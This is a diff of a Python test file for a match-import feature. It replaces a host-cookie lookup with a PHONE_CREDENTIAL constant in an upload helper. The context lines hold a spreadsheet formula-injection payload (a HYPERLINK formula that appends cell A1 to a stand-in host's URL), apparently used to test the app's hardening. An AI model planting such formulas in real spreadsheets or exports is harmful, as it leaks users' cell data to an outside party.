@@ -13,7 +13,7 @@ from companion import create_app, hardening
 from companion.config import Settings
 from companion.extensions import db
 from companion.models import Match
-from tests.conftest import csrf_token, grant_host_rights
+from tests.conftest import PHONE_CREDENTIAL, csrf_token, grant_host_rights
 
 HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'
 HTMX = {"HX-Request": "true"}
@@ -27,9 +27,7 @@ def topic_file(players: list[str], uid: str = "t1") -> dict:
 
 def upload(client, content: bytes, **headers):
     """POST a match file to the import from the host's phone (imports need host rights), with the page's CSRF token."""
-    from companion.services import host
-
-    if client.get_cookie(host.HOST_COOKIE) is None:
+    if client.get_cookie(PHONE_CREDENTIAL) is None:
         grant_host_rights(client)
     token = csrf_token(client, "/history")
     return client.post(
